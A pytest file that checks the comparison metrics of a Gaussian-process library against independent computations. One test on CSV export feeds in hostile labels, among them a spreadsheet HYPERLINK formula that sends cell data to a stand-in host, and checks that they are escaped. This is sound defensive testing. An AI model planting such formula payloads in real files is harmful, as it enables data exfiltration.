"""Each metric of a comparison against an independent computation."""

import csv
from dataclasses import replace
from functools import cache

import jax
import numpy as np
import pandas as pd
import pytest
from arviz_stats.base import array_stats
from scipy import stats
from scipy.special import expit

import pgmodels as pgm
from pgmodels.diagnostics.compare import (
    convergence_by_latent,
    crps,
    expected_calibration_error,
    interval_score,
    pareto_k,
    standard_errors,
    worst,
)
from pgmodels.interop.arviz import pointwise_log_likelihood
from pgmodels.priors.base import Sites
from pgmodels.results.gaussian import NormalDensity


def data(n, seed):
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, 2))
    return X, (rng.random(n) < expit(2.0 * X[:, 0] + 0.8)).astype(float)


@cache
def bernoulli():
    X, y = data(20, 0)
    model = pgm.Model(pgm.Bernoulli(), pgm.GP(pgm.RBF(2.0, 0.9), mean=0.8))
    vi = pgm.cavi(model, X, y)
    return vi, pgm.correct(vi), pgm.gibbs(model, X, y, num_samples=300, num_warmup=30, num_chains=2, seed=3)


@cache
def gaussian():
    X, _ = data(15, 2)
    y = np.sin(2 * X[:, 0]) + 0.3
    model = pgm.Model(pgm.Gaussian(0.5), pgm.GP(pgm.RBF(1.5, 0.9), mean=0.4))
    return pgm.cavi(model, X, y), pgm.gibbs(model, X, y, num_samples=400, num_warmup=5, num_chains=2, seed=3)


@cache
def table():
    vi, fixed, mcmc = bernoulli()
    X, y = data(30, 1)
    return pgm.compare(gibbs=mcmc, cavi=vi, corrected=fixed, X=X, y=y)


def test_errors_are_those_of_the_marginals():
    vi, fixed, mcmc = bernoulli()
    frame = table().to_dataframe()
    assert list(frame.index) == ["gibbs", "cavi", "corrected"]
    for name, result in (("cavi", vi), ("corrected", fixed)):
        f = mcmc.latents.reshape(-1, 20)
        mean, variance = np.abs(result.mean[:, 0] - f.mean(axis=0)), np.abs(result.variance[:, 0] - f.var(axis=0))
        expected = [mean.mean(), mean.max(), variance.mean(), variance.max()]
        columns = ["mean_error", "mean_error_max", "variance_error", "variance_error_max"]
        np.testing.assert_allclose(frame.loc[name, columns].astype(float), expected, rtol=1e-12)
        # A Gaussian by 20,000 of its quantiles: the tails beyond them weigh less than 1e-4.
        quantiles = stats.norm.ppf((np.arange(20_000) + 0.5) / 20_000)
        scale = np.sqrt(result.variance[:, 0])
        distances = [stats.wasserstein_distance(f[:, i], result.mean[i, 0] + scale[i] * quantiles) for i in range(20)]
        np.testing.assert_allclose(frame.loc[name, "wasserstein"], np.mean(distances), atol=2e-4)
        assert frame.loc[name, "seconds"] == result.seconds
    assert frame.loc["gibbs", columns].isna().all()
    assert frame.loc["cavi", "elbo"] == vi.elbo
    assert frame.loc[["gibbs", "corrected"], "elbo"].isna().all()
    assert np.isnan(frame.loc["gibbs", "pareto_k"])
    assert frame.loc["corrected", "pareto_k"] == pareto_k(fixed)
    assert all(dtype.kind == "f" for dtype in frame.dtypes)


def test_wasserstein_of_one_draw():
    # W1 of a point at the mean from N(2, 3^2) is E|f - 2| = 3 sqrt(2 / pi).
    normal = NormalDensity(np.array([2.0]), np.array([9.0]))
    got = normal.wasserstein(np.array([[2.0]]))
    np.testing.assert_allclose(got, 3.0 * np.sqrt(2 / np.pi), rtol=1e-12)
    far = normal.wasserstein(np.array([[-50.0], [-50.0]]))
    np.testing.assert_allclose(far, 52.0, rtol=1e-9)


def test_test_metrics_of_two_classes():
    vi, _, _ = bernoulli()
    X, y = data(30, 1)
    m, v = vi.predict_latent(X)
    nodes, weights = np.polynomial.hermite_e.hermegauss(60)
    p = expit(m + np.sqrt(v) * nodes) @ (weights / weights.sum())
    row = table().to_dataframe().loc["cavi"]
    assert row["misclassification"] == np.mean((p > 0.5) != y)
    np.testing.assert_allclose(row["negative_log_density"], -stats.bernoulli.logpmf(y, p).mean(), rtol=1e-7)
    confidence, correct_label = np.maximum(p, 1 - p), (p > 0.5) == y
    total = 0.0
    for b in range(15):
        inside = (confidence > b / 15) & (confidence <= (b + 1) / 15)
        if inside.any():
            total += inside.mean() * abs(correct_label[inside].mean() - confidence[inside].mean())
    np.testing.assert_allclose(row["calibration_error"], total, rtol=1e-7)


def test_pareto_k_is_that_of_the_dense_densities():
    vi, _, _ = bernoulli()
    f, _ = vi.draw_at_data(1000, seed=4)
    # Well-conditioned covariances: a nugget would change them, so the kernel's lengthscale keeps K's inverse tame.
    X = vi.X
    K = 2.0 * np.exp(-0.5 * ((X[:, None] - X) ** 2).sum(-1) / 0.9**2)
    W = np.diag(vi.sites.precision[:, 0])
    S = K - K @ np.linalg.solve(np.linalg.inv(W) + K, K)
    log_q = stats.multivariate_normal(vi.mean[:, 0], S, allow_singular=True).logpdf(f[..., 0])
    log_p = stats.multivariate_normal(np.full(20, 0.8), K, allow_singular=True).logpdf(f[..., 0])
    log_likelihood = stats.bernoulli.logpmf(vi.y, expit(f[..., 0])).sum(axis=-1)
    expected = array_stats.psislw(-(log_likelihood + log_p - log_q))[1]
    # The dense densities lose digits to the condition of K, about 1e5: weights agree to 1e-6 or so.
    np.testing.assert_allclose(pareto_k(vi, 1000, seed=4), expected, atol=1e-3)


@pytest.mark.slow
def test_an_exact_approximation_shows_no_error():
    vi, mcmc = gaussian()
    result = pgm.compare(gibbs=mcmc, cavi=vi)
    row = result.to_dataframe().loc["cavi"]
    assert row["pareto_k"] < 0.3
    # 15 correlated latents: every error within five of its standard errors.
    assert np.all(np.abs(vi.mean - mcmc.mean) < 5 * result.mcse_mean)
    assert np.all(np.abs(vi.variance - mcmc.variance) < 5 * result.mcse_variance)
    # Independent draws: the standard errors in closed form; those of variances are noisier.
    np.testing.assert_allclose(result.mcse_mean, np.sqrt(vi.variance / 800), rtol=0.25)
    np.testing.assert_allclose(result.mcse_variance, vi.variance * np.sqrt(2 / 800), rtol=0.4)
    # W1 of 800 draws of a Gaussian from it: about 1.1 sd / sqrt(800); a shift of five standard errors adds to it.
    assert row["wasserstein"] < 6 * np.sqrt(vi.variance.max() / 800)


@pytest.mark.slow
def test_a_worse_approximation_shows():
    vi, mcmc = gaussian()
    with jax.enable_x64(True):
        posterior = vi.prior.condition(Sites(*(2 * part for part in vi.sites)))
    narrow = replace(vi, variance=vi.variance / 2, posterior=posterior, method="narrow")
    frame = pgm.compare(gibbs=mcmc, cavi=vi, narrow=narrow).to_dataframe()
    for column in ("variance_error", "variance_error_max", "wasserstein", "pareto_k"):
        assert frame.loc["narrow", column] > frame.loc["cavi", column]
    np.testing.assert_allclose(frame.loc["narrow", "variance_error"], (mcmc.variance - vi.variance / 2).mean())


@pytest.mark.slow
def test_exact_sites_have_equal_weights():
    vi, _ = gaussian()
    weights = pointwise_log_likelihood(vi, vi.draw_at_data(50)[0]).sum(axis=-1)
    f = vi.draw_at_data(50)[0]
    h, w = map(np.asarray, vi.sites)
    weights -= (h * f - 0.5 * w * f**2).sum(axis=(-2, -1))
    assert np.ptp(weights) < 1e-9
    assert pareto_k(vi, 200) == -np.inf


def test_convergence_is_what_arviz_finds_on_every_latent():
    rng = np.random.default_rng(6)
    x = rng.normal(size=(4, 200, 60))
    memory = np.linspace(0.0, 0.95, 60)
    for t in range(1, 200):
        x[:, t] += memory * x[:, t - 1]
    latents = x.reshape(4, 200, 30, 2)
    got = worst(latents, *convergence_by_latent(latents))
    axes = {"chain_axis": 0, "draw_axis": 1}
    assert got["ess_bulk"] == array_stats.ess(x, **axes, method="bulk").min()
    assert got["ess_tail"] == array_stats.ess(x, **axes, method="tail", prob=(0.05, 0.95)).min()
    assert got["rhat"] == array_stats.rhat(x, **axes).max()
    means, _ = standard_errors(latents)
    # NumPyro and ArviZ end Geyer's sequence differently, by a few per cent of the effective size.
    np.testing.assert_allclose(means.ravel(), array_stats.mcse(x, **axes, method="mean"), rtol=0.05)
    assert np.isnan(worst(latents[:1], *convergence_by_latent(latents[:1]))["rhat"])


@pytest.mark.slow
def test_three_classes_and_a_second_sampler():
    rng = np.random.default_rng(3)
    X = rng.normal(size=(15, 1))
    y = np.digitize(X[:, 0], [-0.5, 0.5])
    model = pgm.Model(pgm.LogisticSoftmax(3), pgm.GP(pgm.RBF(2.0, 1.0), size=3))
    mcmc = pgm.gibbs(model, X, y, num_samples=60, num_warmup=10, num_chains=2, seed=1)
    other = replace(mcmc, whitened=tuple(v[:, :40] for v in mcmc.whitened))
    vi = pgm.cavi(model, X, y)
    result = pgm.compare(first=vi, a=mcmc, b=other, reference="b", X=X[:5], y=y[:5])
    assert result.reference == "b"
    assert result.mcse_mean.shape == (15, 3)
    frame = result.to_dataframe()
    distances = [
        stats.wasserstein_distance(mcmc.latents[..., i, j].ravel(), other.latents[..., i, j].ravel())
        for i in range(15)
        for j in range(3)
    ]
    np.testing.assert_allclose(frame.loc["a", "wasserstein"], np.mean(distances), rtol=1e-12)
    p = vi.predict(X[:5]).probabilities
    assert frame.loc["first", "misclassification"] == np.mean(p.argmax(axis=1) != y[:5])
    assert frame.loc["first", "calibration_error"] == expected_calibration_error(p, y[:5])
    assert len(result.plot().axes) == 3


@pytest.mark.slow
def test_binomial_test_data_take_columns_or_covariates():
    X = np.linspace(-1.0, 1.0, 6)[:, None]
    y = np.column_stack([[0, 1, 3, 4, 5, 5], [5, 5, 5, 6, 6, 9]])
    model = pgm.Model(pgm.Binomial(), pgm.GP(pgm.RBF(1.0, 0.7)))
    vi, mcmc = pgm.cavi(model, X, y), pgm.gibbs(model, X, y, num_samples=20, num_warmup=5, num_chains=2)
    one = pgm.compare(gibbs=mcmc, cavi=vi, X=X, y=y).to_dataframe()
    two = pgm.compare(gibbs=mcmc, cavi=vi, X=X, y=y[:, 0], covariates=y[:, 1]).to_dataframe()
    pd.testing.assert_frame_equal(one, two)
    mean = vi.predict(X, covariates=y[:, 1]).mean
    np.testing.assert_allclose(one.loc["cavi", "rmse"], np.sqrt(np.mean((mean - y[:, 0]) ** 2)))
    assert one["calibration_error"].isna().all()
    with pytest.raises(ValueError, match="Leave covariates out"):
        pgm.compare(gibbs=mcmc, X=X, y=y, covariates=y[:, 1])


def test_printed_saved_and_plotted(tmp_path):
    result = table()
    text = str(result)
    assert max(map(len, text.splitlines())) <= 100
    assert "gibbs (ref.)" in text
    assert "Monte-Carlo standard errors" in text
    frame = result.to_dataframe()
    line = next(line for line in text.splitlines() if line.startswith("mean |error| of latent means"))
    best = frame["mean_error"].min()
    assert f"{best:#.4g}*" in line
    assert line.count("*") == 1
    saved = pd.read_csv(result.save(tmp_path / "new"), index_col=0)
    pd.testing.assert_frame_equal(saved, frame)
    figure = result.plot(tmp_path / "marginals.png")
    assert (tmp_path / "marginals.png").read_bytes().startswith(b"\x89PNG")
    assert [axes.get_title() for axes in figure.axes] == [
        "Posterior mean",
        "Posterior variance",
        "Predictive probability",
    ]
    assert all(axes.get_xlabel() and axes.get_ylabel() for axes in figure.axes)


def test_a_correction_out_of_reach_is_said():
    _, fixed, mcmc = bernoulli()
    bad = replace(fixed, variance=fixed.variance - 0.9 * fixed.variance.max())
    result = pgm.compare(gibbs=mcmc, corrected=bad)
    assert np.isnan(result.to_dataframe().loc["corrected", "wasserstein"])
    assert "variances are not positive" in result.notes[0]
    assert " ".join(result.notes[0].split()) in " ".join(str(result).split())


def test_text_in_a_saved_comparison_is_no_formula_of_a_spreadsheet(tmp_path):
    vi, *_, draws = bernoulli()
    hostile = ['=HYPERLINK("http://a.example/"&A1,"open")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b"]
    table = pgm.compare(gibbs=draws, **dict.fromkeys(hostile, vi))
    with table.save(tmp_path).open(newline="", encoding="utf-8") as file:
        (corner, *columns), *rows = csv.reader(file)
    written = [row[0] for row in rows]
    assert set(written) >= {f"'{label}" for label in hostile[:6]} | {"plain", "a=b"}
    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in [corner, *columns, *written])
    # Numbers stay numbers.
    assert [float(row[1 + columns.index("elbo")] or "nan") for row in rows] == pytest.approx(
        table.to_dataframe()["elbo"].tolist(), nan_ok=True
    )


def test_bad_input_is_refused():
    vi, _, mcmc = bernoulli()
    other, _ = gaussian()
    X, y = data(5, 8)
    for arguments, message in (
        ({"cavi": vi}, "needs draws of the posterior"),
        ({"gibbs": mcmc, "cavi": vi, "reference": "nuts"}, "reference must be the label of one of the results"),
        ({"gibbs": mcmc, "cavi": vi, "reference": "cavi"}, "must be draws"),
        ({"reference": mcmc, "cavi": vi}, "by keyword"),
        ({"gibbs": mcmc, "cavi": other}, "different X"),
        ({"gibbs": mcmc, "X": X}, "got only X"),
        ({"gibbs": mcmc, "y": y}, "got only y"),
        ({"gibbs": mcmc, "X": X, "y": y[:3]}, "same length"),
        ({"gibbs": mcmc, "x_test": X}, "x_test must be a result of cavi"),
    ):
        with pytest.raises(ValueError, match=message):
            pgm.compare(**arguments)


@pytest.mark.parametrize(("rhat", "ess", "cautioned"), [(1.2, 900.0, True), (1.01, 40.0, True), (1.01, 900.0, False)])
def test_a_reference_that_has_not_mixed_is_called_out(rhat, ess, cautioned):
    frame = table().to_dataframe()
    frame.loc["gibbs", ["rhat", "ess_bulk", "ess_tail"]] = [rhat, ess, 950.0]
    assert ("! These errors are not reliable" in str(replace(table(), _frame=frame))) is cautioned


def test_convergence_of_each_latent_is_what_arviz_says():
    """On slow chains with a shift between them, where splitting twice or not at all would show."""
    rng = np.random.default_rng(5)
    x = np.zeros((4, 300, 6, 1))
    for step in range(1, 300):
        x[:, step] = 0.95 * x[:, step - 1] + rng.normal(size=(4, 6, 1))
    x[0, 150:] += 1.0
    bulk, tail, rhat = (figure[:, 0] for figure in convergence_by_latent(x))
    axes = {"chain_axis": 0, "draw_axis": 1}
    np.testing.assert_allclose(rhat, array_stats.rhat(x[..., 0], **axes), rtol=1e-10)
    np.testing.assert_allclose(bulk, array_stats.ess(x[..., 0], **axes, method="bulk"), rtol=0.05)
    np.testing.assert_allclose(tail, array_stats.ess(x[..., 0], **axes, method="tail", prob=(0.05, 0.95)), rtol=0.1)


# Scores of predictions against closed forms and brute force.


RNG = np.random.default_rng(0)


def test_crps_of_few_draws_by_all_pairs():
    draws, y = RNG.normal(size=(7, 3)), np.array([0.3, -2.0, 1.1])
    pairs = np.abs(draws[:, None] - draws[None]).sum(axis=(0, 1)) / (7 * 6)
    np.testing.assert_allclose(crps(draws, y), np.abs(draws - y).mean(axis=0) - 0.5 * pairs, rtol=1e-12)


def test_crps_of_a_normal_distribution():
    mean, sd, y = np.array([0.0, 2.0, -1.0]), np.array([1.0, 0.5, 3.0]), np.array([0.4, 3.5, -1.0])
    z = (y - mean) / sd
    # Gneiting and Raftery 2007, equation 22.
    truth = sd * (z * (2 * stats.norm.cdf(z) - 1) + 2 * stats.norm.pdf(z) - 1 / np.sqrt(np.pi))
    draws = np.stack([crps(mean + sd * RNG.normal(size=(500, 3)), y) for _ in range(40)])
    np.testing.assert_array_less(np.abs(draws.mean(axis=0) - truth), 4 * draws.std(axis=0) / np.sqrt(40))
    assert (draws.std(axis=0) < 0.1 * sd).all()


def test_crps_of_counts_is_the_sum_over_their_distribution_functions():
    y, values = np.array([0.0, 3.0, 9.0]), np.arange(60)
    truth = ((stats.poisson(3.2).cdf(values) - (values >= y[:, None])) ** 2).sum(axis=1)
    draws = np.stack([crps(RNG.poisson(3.2, (500, 3)), y) for _ in range(40)])
    np.testing.assert_array_less(np.abs(draws.mean(axis=0) - truth), 4 * draws.std(axis=0) / np.sqrt(40))


def test_interval_score_inside_below_and_above():
    draws = np.tile(np.linspace(0.0, 1.0, 101)[:, None], 3)
    # The interval is (0.05, 0.95), and alpha 0.1.
    np.testing.assert_allclose(interval_score(draws, np.array([0.5, -0.15, 1.0])), [0.9, 0.9 + 4.0, 0.9 + 1.0])
    counts = np.repeat(np.arange(4), [4, 6, 80, 10])[:, None]
    np.testing.assert_allclose(interval_score(counts, np.array([3.0]), is_discrete=True), [2.0])
    np.testing.assert_allclose(interval_score(counts, np.array([5.0]), is_discrete=True), [2.0 + 40.0])


@pytest.mark.slow
@pytest.mark.parametrize("is_count", [False, True])
def test_scores_of_a_comparison(is_count):
    X = np.linspace(-1.0, 1.0, 10)[:, None]
    if is_count:
        model, y = pgm.Model(pgm.NegativeBinomial(3.0), pgm.GP(pgm.RBF(0.5, 0.7))), RNG.poisson(3.0, 10).astype(float)
    else:
        model, y = pgm.Model(pgm.Gaussian(0.5), pgm.GP(pgm.RBF(1.5, 0.7))), np.sin(2.0 * X[:, 0])
    draws = pgm.gibbs(model, X, y, num_samples=50, num_warmup=5, num_chains=2, seed=0)
    vi = pgm.cavi(model, X, y)
    frame = pgm.compare(gibbs=draws, cavi=vi, X=X + 0.03, y=y, seed=5).to_dataframe()
    predictive = vi.predict(X + 0.03)
    low, high = np.quantile(predictive.draw(1000, 5), [0.05, 0.95], axis=0)
    if is_count:
        values = np.arange(300)
        distribution = np.cumsum(predictive.probabilities_of(values), axis=1)
        truth = ((distribution - (values >= y[:, None])) ** 2).sum(axis=1).mean()
    else:
        z = (y - predictive.mean) / np.sqrt(predictive.variance)
        truth = z * (2 * stats.norm.cdf(z) - 1) + 2 * stats.norm.pdf(z) - 1 / np.sqrt(np.pi)
        truth = np.mean(np.sqrt(predictive.variance) * truth)
        outside = np.maximum(low - y, 0.0) + np.maximum(y - high, 0.0)
        np.testing.assert_allclose(frame.loc["cavi", "interval_score"], np.mean(high - low + 20 * outside), rtol=1e-9)
    # The score of 1,000 draws has an error of about 1 / sqrt(1000) of the distribution's scale in each of ten rows.
    np.testing.assert_allclose(frame.loc["cavi", "crps"], truth, rtol=0.06)
    assert "test CRPS" in str(pgm.compare(gibbs=draws, cavi=vi, X=X, y=y))
    assert "crps" not in pgm.compare(gibbs=draws, cavi=vi).to_dataframe()
